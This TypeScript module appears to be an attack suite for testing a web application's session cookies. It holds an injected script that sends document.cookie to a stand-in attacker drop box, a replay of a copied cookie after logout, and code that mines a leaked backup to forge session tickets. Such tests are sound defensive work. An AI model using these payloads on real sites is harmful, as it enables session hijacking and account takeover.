import assert from 'node:assert/strict'
import { putTogether } from '../http/tickets.ts'
import { type Attack, inWords, victim } from './target.ts'
import { inABrowser } from './victim.ts'

/** A script in the page of the application reads the session's cookie and sends it to the attacker. */
export const scriptStealsCookie: Attack = async (target, scene) => {
  return inABrowser(target, scene, async (person) => {
    await person.logIn()
    const path = await target.inject?.(
      `new Image().src = '${scene.evil.dropBox}?cookie=' + encodeURIComponent(document.cookie)`,
    )
    // Where no page can be made to run a script, the debugger runs it: past the content security policy, so that only HttpOnly is left.
    const [stolen] = path
      ? await Promise.all([scene.evil.stolen(), person.page.goto(target.url + path)])
      : [String(await person.page.evaluate('document.cookie'))]
    const holder = await target.whoIs(stolen)
    return {
      succeeded: holder.userId === victim.name,
      evidence: `${path ? `a note on ${path} sent` : 'a script saw'} ${stolen.includes(`${target.cookieName()}=`) ? 'the session cookie' : 'no session cookie'}; with it the attacker is ${inWords(holder)}`,
    }
  })
}

/** The attacker has copied the cookie, the victim logs out, the attacker goes on. */
export const replayAfterLogout: Attack = async (target, scene) => {
  return inABrowser(target, scene, async (person) => {
    await person.logIn()
    const copied = await person.cookies()
    await person.submit({ path: '/logout', fields: {} })
    assert.ok(!(await person.cookies()).includes(copied), 'the victim has no session any more')
    const [holder, left] = [await target.whoIs(copied), await target.sessionsOf(victim.name)]
    return {
      succeeded: holder.userId === victim.name,
      evidence: `after the logout the holder of the copied cookie is ${inWords(holder)}; ${victim.name}’s sessions are ${left.length} in number`,
    }
  })
}

/** A backup leaks: everything in it is tried as a cookie, and what a reader of the source could make of it. */
export const dumpReplay: Attack = async (target, scene) => {
  return inABrowser(target, scene, async (person) => {
    await person.logIn()
    const files = target.dump()
    assert.match(JSON.stringify(files), new RegExp(victim.name), 'the backup holds the session')
    const words = [...new Set(files.flatMap(({ path, text }) => `${path} ${text}`.match(/[\w-]{4,}/g) ?? []))]
    const values = words.flatMap((word) => [word, word.replace(/^sess_/, '')])
    // The cookie's inner form is public: 16 bytes of an ID and 32 of a secret. The hashes are tried as either.
    const [ids, secrets] = [words.flatMap((word) => bytesOf(word, 16)), words.flatMap((word) => bytesOf(word, 32))]
    const forged = ids.flatMap((sid) => secrets.map((secret) => putTogether({ sid, secret })))
    let tried = 0
    for (const value of [...values, ...forged]) {
      tried++
      const holder = await target.whoIs(`${target.cookieName()}=${value}`)
      if (holder.userId === victim.name) {
        return {
          succeeded: true,
          evidence: `value no. ${tried} of the dump, "${value}", as a cookie is ${inWords(holder)}`,
        }
      }
    }
    return { succeeded: false, evidence: `${tried} values from ${files.length} files, forged tickets included: nobody` }
  })
}

/** The bytes that a word may spell, where they are enough. */
function bytesOf(word: string, count: number): Buffer[] {
  const hex = /^(sess_)?([0-9a-f]{64})$/.exec(word)?.[2]
  const bytes = hex ? Buffer.from(hex, 'hex') : Buffer.from(word, 'base64url')
  return bytes.length >= count ? [bytes.subarray(0, count)] : []
}
